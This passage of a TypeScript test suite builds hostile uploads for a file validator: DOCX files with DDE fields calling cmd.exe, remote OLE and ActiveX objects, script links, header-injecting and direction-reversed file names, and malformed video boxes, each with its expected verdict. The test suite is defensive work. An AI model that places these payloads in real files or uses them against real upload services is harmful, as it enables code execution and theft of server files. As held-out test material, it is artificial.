        body: `<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" ShapeID="a" DrawAspect="Content" ObjectID="_1" r:id="rId1" UpdateMode="Always"/></w:object></w:r></w:p>`,
        relations: [
          {
            type: "oleObject",
            target: `mhtml:http://${stranger}/a.html!x-usc:http://${stranger}/a.html`,
            external: true,
          },
        ],
      }),
    expected: refused,
    why: "Nothing is packed into it: the object is fetched and run when the document is opened.",
  },
  {
    ...docxCv,
    name: "DOCX with a control",
    bytes: () =>
      docx({
        body: '<w:p><w:r><w:object><w:control r:id="rId1" w:name="a" w:shapeid="a"/></w:object></w:r></w:p>',
        types: '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
        relations: [{ type: "control", target: "activeX/activeX1.xml" }],
        parts: [
          {
            name: "word/activeX/activeX1.xml",
            content: `<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}" ax:persistence="persistPropertyBag"><ax:ocxPr ax:name="Location" ax:value="http://${stranger}/"/></ax:ocx>`,
          },
        ],
      }),
    expected: refused,
    why: "A browser inside the document, without any binary part.",
  },
  {
    ...docxCv,
    name: "DOCX with rich text for a part",
    bytes: () =>
      docx({
        types: '<Default Extension="dat" ContentType="application/rtf"/>',
        body: `${paragraph("Zoe Martin")}<w:altChunk r:id="rId1"/>`,
        relations: [{ type: "http://purl.oclc.org/ooxml/officeDocument/relationships/aFChunk", target: "/word/a.dat" }],
        parts: [{ name: "word/a.dat", content: richText() }],
      }),
    expected: refused,
    why: "Word takes the rich text, and the object packed into it, into the document.",
  },
  {
    ...docxCv,
    name: "DOCX with a DDE field in pieces",
    bytes: () => {
      const run = (content: string) => `<w:r>${content}</w:r>`;
      const pieces = ["D", "DE", "AU", "TO c:\\\\windows\\\\system32\\\\cmd.exe", ` "/k echo ${mark}"`];
      const field = pieces.map((piece) => run(`<w:instrText xml:space="preserve">${piece}</w:instrText>`)).join("");
      return docx({
        body: `<w:p>${run('<w:fldChar w:fldCharType="begin"/>')}${field}${run('<w:fldChar w:fldCharType="end"/>')}</w:p>`,
      });
    },
    expected: refused,
    why: "Word joins the pieces of an instruction before it follows it.",
  },
  {
    ...docxCv,
    name: "DOCX with a DDE field in its header",
    bytes: () =>
      docx({
        types:
          '<Override PartName="/word/header1.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>',
        body: `${paragraph("Zoe Martin")}<w:sectPr><w:headerReference w:type="default" r:id="rId1"/></w:sectPr>`,
        relations: [{ type: "header", target: "header1.xml" }],
        parts: [
          {
            name: "word/header1.xml",
            content: documentXml(
              `<w:p><w:fldSimple w:instr=' dde &quot;cmd.exe&quot; &quot;/k echo ${mark}&quot; '><w:r><w:t>a</w:t></w:r></w:fldSimple></w:p>`,
            ).replace(/<(\/?)w:document/g, "<$1w:hdr"),
          },
        ],
      }),
    expected: refused,
    why: "The short form of a field, in small letters, in another part than the text.",
  },
  {
    ...odtCv,
    name: "ODT with a macro in Python",
    bytes: () =>
      odt({
        manifest: ["Scripts/python/a.py application/octet-stream"],
        parts: [{ name: "Scripts/python/a.py", content: `def run(*a):\n    print("${mark}")\n` }],
      }),
    expected: refused,
    why: "Macros in other languages lie in another folder.",
  },
  {
    ...odtCv,
    name: "ODT with a part of itself from a stranger",
    bytes: () =>
      odt({
        body: `<text:p>Zoe Martin</text:p><text:section text:name="a"><text:section-source xlink:href="http://${stranger}/a.odt" xlink:type="simple"/></text:section>`,
      }),
    expected: refused,
    why: "A section that is fetched when the document is opened.",
  },
  {
    ...odtCv,
    name: "ODT with a program as an object",
    bytes: () =>
      odt({
        body: '<text:p><draw:frame draw:name="a"><draw:object-ole xlink:href="./Object 1"/></draw:frame></text:p>',
        parts: [
          {
            name: "Object 1",
            content: packedProgram(),
          },
        ],
      }),
    expected: refused,
    why: "A packed program looks like an icon that one double-clicks.",
  },
  {
    ...odtCv,
    name: "ODT with a link that is a script",
    bytes: () =>
      odt({
        parts: [
          {
            name: "content.xml",
            content: odtContent(
              `<text:p><text:a xlink:type="simple" xlink:href=" JaVaScRiPt:alert('${mark}')">Portfolio</text:a></text:p><text:p>&lt;img src=x onerror=alert(1)&gt;</text:p>`,
            ),
          },
        ],
      }),
    expected: harmless,
    why: "The page that shows the document must neither make a link of it nor a picture.",
    absent: ["JaVaScRiPt:alert", "javascript:alert", "<img src=x"],
  },
]);

const wrongTypes = inCategory("wrong type", [
  {
    ...docxCv,
    name: "locked document of Word in its old container",
    bytes: () =>
      oleContainer([
        { name: "EncryptionInfo", content: join(little.u16(4), little.u16(4), little.u32(0x40), "<encryption/>") },
        { name: "EncryptedPackage", content: new Uint8Array(2000).fill(0x33) },
      ]),
    expected: refused,
    why: "What Word makes of a DOCX under a password: no check can look into it.",
  },
  {
    ...pdfCv,
    name: "installer named PDF",
    bytes: () => oleContainer([{ name: "\u4840\u3f7f\u4164\u422f\u4836", content: new Uint8Array(600) }]),
    expected: refused,
    why: "Installers of Windows lie in the same container as old documents.",
  },
  {
    ...odtCv,
    name: "rich text named ODT",
    bytes: () => join("\n", richText(linuxProgram())),
    expected: refused,
    why: "Office programs open it by its content, with the object packed into it.",
  },
  {
    ...docxCv,
    name: "Java program named DOCX",
    bytes: () =>
      zip([
        { name: "META-INF/MANIFEST.MF", content: "Manifest-Version: 1.0\nMain-Class: A\n" },
        { name: "A.class", content: join("\xca\xfe\xba\xbe", big.u32(0x37)) },
      ]),
    expected: refused,
    why: "A ZIP, but no document.",
  },
  {
    ...docxCv,
    name: "spreadsheet named DOCX",
    bytes: () =>
      zip([
        {
          name: "[Content_Types].xml",
          content: contentTypesXml(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
          ).replaceAll("/word/document", "/xl/workbook"),
        },
        { name: "_rels/.rels", content: relationsXml([{ type: "officeDocument", target: "xl/workbook.xml" }]) },
        { name: "xl/workbook.xml", content: "<workbook/>" },
      ]),
    expected: refused,
    why: "An office file, but of another kind: it may call programs from its cells.",
  },
  {
    ...odtCv,
    name: "spreadsheet named ODT",
    bytes: () => zip(odtEntries({ mimetype: "application/vnd.oasis.opendocument.spreadsheet" })),
    expected: refused,
    why: "An office file, but of another kind.",
  },
  {
    ...pngPhoto,
    name: "Windows program as a logo",
    kind: "logo",
    bytes: () => join(windowsProgram(), png()),
    expected: refused,
    why: "A program under the name of a picture, which comes after it.",
  },
  {
    ...webmVideo,
    name: "macOS program named WebM",
    bytes: macProgram,
    expected: refused,
    why: "A program under the name of a video.",
  },
  {
    ...pdfCv,
    name: "shortcut as a Kbis",
    kind: "kbis",
    fileName: "kbis.pdf",
    bytes: windowsShortcut,
    expected: refused,
    why: "A shortcut of Windows starts the program that it names.",
  },
  {
    ...pdfCv,
    name: "batch file named PDF",
    bytes: () => latin1(`@echo off\r\nrem %PDF-1.4\r\necho ${mark}\r\n`),
    expected: refused,
    why: "A program with the word that readers look for in its second line.",
  },
  {
    ...pdfCv,
    name: "page of HTML with a mark before it named PDF",
    kind: "offerFile",
    fileName: "offre.pdf",
    bytes: () => utf8(`\uFEFF  \n<!-- %PDF-1.7 -->\n${html}`),
    expected: refused,
    why: "A page that begins with the mark of its alphabet and with the word of a PDF.",
  },
  {
    ...jpegPhoto,
    name: "page of HTML declared as a Kbis picture",
    kind: "kbis",
    fileName: "kbis.jpg",
    bytes: () => join("\xff\xd8\xff", html),
    expected: refused,
    why: "Three bytes of a picture, then a page.",
  },
  {
    ...pdfCv,
    name: "picture named PDF declared as a program",
    kind: "kbis",
    fileName: "kbis.pdf",
    declaredType: "application/x-msdownload",
    bytes: () => gif(),
    expected: refused,
    why: "Name, type and content say three things.",
  },
  {
    ...mp4Video,
    name: "list of addresses named MP4",
    bytes: () =>
      latin1(
        `#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nfile:///etc/passwd\n#EXTINF:10,\nhttp://${stranger}/a.ts\n#EXT-X-ENDLIST\n`,
      ),
    expected: refused,
    why: "Film programs follow such lists, to files of the server too.",
  },
  {
    ...jpegPhoto,
    name: "photo declared as a page of HTML",
    declaredType: "text/html; charset=utf-8",
    bytes: () => jpeg(),
    expected: harmless,
    why: "The declared type must not be the one it is served under.",
  },
  {
    ...webmVideo,
    name: "empty video",
    bytes: () => new Uint8Array(),
    expected: refused,
    why: "There is nothing in it.",
  },
  {
    ...docxCv,
    name: "CV of one byte",
    bytes: () => latin1("P"),
    expected: refused,
    why: "Checks that read further than the file ends must not fall.",
  },
]);

const names = inCategory(
  "name",
  [
    {
      name: "name that climbs with backslashes",
      fileName: "..\\..\\Startup\\cv.pdf",
      expected: harmless,
      why: "Taken as a path on Windows it writes outside of its folder.",
      absent: ["..\\", "..%5C", "Startup"],
    },
    {
      name: "name on a share",
      fileName: `//${stranger}/share/cv.pdf`,
      expected: harmless,
      why: "Taken as a path it asks a stranger's machine.",
      absent: [stranger, "%2Fshare"],
    },
    {
      name: "name with a NUL and a program behind it",
      fileName: "cv.pdf\0.exe",
      expected: refused,
      why: "Its ending is that of a program.",
    },
    {
      ...jpegPhoto,
      name: "name with a newline and a header",
      fileName: "photo\nX-Accel-Redirect: /etc/passwd\n.jpg",
      bytes: () => jpeg(),
      expected: harmless,
      why: "A lone newline ends a header too, and this one makes a proxy send a file.",
      absent: ["\nX-Accel-Redirect", "%0A"],
    },
    {
      name: "name that ends another field",
      fileName: `cv"; filename="a.exe"; x=".pdf`,
      expected: harmless,
      why: "Written between quotes it ends them and names a program.",
      absent: ['filename="a.exe"'],
    },
    {
      name: "name that is HTML",
      fileName: `<img src=x onerror=alert('${mark}')>.pdf`,
      expected: harmless,
      why: "A page that shows the name as it is runs it.",
      absent: ["<img src=x"],
    },
    {
      name: "name with other marks of direction",
      fileName: "cv\u2067\u2066fdp\u2069.\u200F\u200Epdf\u061C.pdf",
      expected: harmless,
      why: "Isolates and marks turn the order of letters as well as the known override.",
      absent: ["\u2067", "%E2%81%A7", "%E2%80%8F", "%D8%9C"],
    },
    {
      name: "name that reads backwards, a screen saver's",
      fileName: "cv\u202Efdp.scr",
      expected: refused,
      why: "Shown as cvrcs.pdf, run as a program.",
    },
    {
      name: "name of 5,000 letters of four bytes",
      fileName: `${"\u{1F600}".repeat(5_000)}.pdf`,
      expected: harmless,
      why: "Twenty thousand bytes, sixty thousand in a header; cut anywhere it may end in half a letter.",
      absent: ["%F0%9F%98%80".repeat(300), "\uFFFD", "%EF%BF%BD"],
    },
    {
      ...pngPhoto,
      name: "name of dots and spaces",
      fileName: " .. . ",
      bytes: () => png(),
      expected: harmless,
      why: "Nothing is left of it, or the folder above.",
      absent: ['filename=".', "UTF-8''."],
    },
    {
      ...docxCv,
      name: "name that Windows keeps for a port",
      fileName: "lpt1.docx",
      bytes: () => docx(),
      expected: harmless,
      why: "Windows can neither write nor delete a file of this name.",
      absent: ['filename="lpt1.docx"', "UTF-8''lpt1.docx"],
    },
    {
      name: "name with halves of characters the wrong way round",
      fileName: "\uDE00cv\uD83D.pdf",
      expected: harmless,
      why: "Encoding it for a header or for the database throws.",
      absent: ["%ED%B8%80", "%ED%A0%BD"],
    },
    {
      name: "name with a stream of its own",
      fileName: "cv.pdf:setup.exe",
      expected: refused,
      why: "Windows keeps what follows the colon as a second file, and its ending is a program's.",
    },
    {
      name: "name with a shortcut's ending behind spaces",
      fileName: `cv.pdf${" ".repeat(100)}.lnk`,
      expected: refused,
      why: "The spaces push the true ending out of sight.",
    },
    {
      name: "name that ends in a dot and a no-break space",
      fileName: "cv.pdf.\u00A0",
      expected: harmless,
      why: "Windows drops the dot, checks of the ending see none.",
      absent: ["pdf.%C2%A0", 'pdf."'],
    },
    {
      ...mp4Video,
      name: "name with endings of a page",
      fileName: "video.mp4.html",
      bytes: () => film(),
      expected: refused,
      why: "Who serves it by its name serves a page.",
    },
  ].map((one) => ({ ...pdfCv, bytes: () => cvPdf(), ...one })),
);

const videos = inCategory("video", [
  {
    ...mp4Video,
    name: "MP4 with a box of eight exabytes",
    bytes: () =>
      join(fileType("isom", 512), big.u32(1), "moov", "\x7f", new Uint8Array(7).fill(255), new Uint8Array(64)),
    expected: refused,
    why: "The long form of a box's size, at its limit.",
  },
  {
    ...mp4Video,
    name: "MP4 with a box smaller than its head",
    bytes: () => join(fileType("isom", 512), Array<string>(1000).fill("\0\0\0\x04moov").join("")),
    expected: refused,
    why: "Who walks by the size goes back, and round for ever.",
  },
  {
    ...mp4Video,
    name: "MP4 with boxes 20,000 deep",
    bytes: () => {
      const depth = 20_000;
      const heads = Array.from({ length: depth }, (_, i) => join(big.u32(8 * (depth - i)), i === 0 ? "moov" : "trak"));
      return joinAll([fileType("isom", 512), ...heads]);
    },
    expected: refused,
    why: "A reader that calls itself at each depth falls over; no film is there.",
  },
  {
    ...movVideo,
    name: "MOV that is a drawing after its first box",
    bytes: () => join(fileType("qt  ", 0), `<svg xmlns="http://www.w3.org/2000/svg" onload='${script}'/>`),
    expected: refused,
    why: "The first twelve bytes satisfy who looks at these alone.",
  },
  {
    ...webmVideo,
    name: "WebM that is HTML after its head",
    bytes: () => join(webmHead(), html),
    expected: refused,
    why: "The head is true, and all there is of a film.",
  },
  {
    ...webmVideo,
    name: "WebM with a cluster of petabytes",
    bytes: () => webm({ clusterSize: join("\x01\x00", new Uint8Array(6).fill(0xf0)) }),
    expected: refused,
    why: "The head is true, the size of the pictures is not.",
  },
  {
    ...webmVideo,
    name: "WebM with a program attached",
    bytes: () => {
      const file = join(
        element("466e", "a.exe"),
        element("4660", "application/x-msdownload"),
        element("46ae", "\x01"),
        element("465c", windowsProgram()),
      );
      return webm({ inside: element("1941a469", element("61a7", file)) });
    },
    expected: refused,
    why: "Matroska carries any file; players offer it, and WebM does not allow it.",
  },
  {
    ...webmVideo,
    name: "WebM with a ZIP behind it",
    bytes: () => join(webm(), smallArchive()),
    expected: refused,
    why: "A video is kept as it is: the archive would go out with it.",
  },
  {
    ...movVideo,
    name: "MOV that refers to another film",
    bytes: () =>
      join(
        fileType("qt  ", 0),
        box("moov", box("rmra", box("rmda", fullBox("rdrf", 0, "url ", big.u32(26), `http://${stranger}/a.mov\0`)))),
      ),
    expected: refused,
    why: "A film without pictures: the player fetches another.",
  },
  {
    ...movVideo,
    name: "MOV whose pictures lie in a file of the machine",
    bytes: () => film({ brand: "qt  ", dataFirst: true, reference: fullBox("alis", 0, "\0\0\0\x20/etc/passwd\0") }),
    expected: refused,
    why: "An alias in the place of the mark that the pictures are here.",
  },
  {
    ...mp4Video,
    name: "MP4 with a page in an unused box",
    bytes: () => film({ before: box("free", html) }),
    expected: harmless,
    why: "A whole film; the page shows only where a browser guesses the type.",
  },
  {
    ...movVideo,
    name: "MOV with the position of a phone",
    bytes: () => {
      const key = "com.apple.quicktime.location.ISO6709";
      const keys = fullBox("keys", 0, big.u32(1), box("mdta", key));
      const value = box("data", big.u32(1), big.u32(0), "+45.7740+004.8300+170.000/");
      const list = box("ilst", join(big.u32(value.length + 8), big.u32(1), value));
      const handler = fullBox("hdlr", 0, big.u32(0), "mdta", new Uint8Array(12), "\0");
      return film({ brand: "qt  ", dataFirst: true, inMovie: box("meta", handler, keys, list) });
    },
    expected: harmless,
    why: "Phones write where the film was taken; companies would learn where a candidate lives.",
    absent: ["+45.7740+004.8300"],
  },
]);

export const heldOut: HostileFile[] = [
  ...polyglots,
  ...metadata,
  ...scripts,
  ...actions,
  ...attachments,
  ...structures,
  ...sizes,
  ...svgs,
  ...archives,
  ...documents,
  ...wrongTypes,
  ...names,
  ...videos,
];
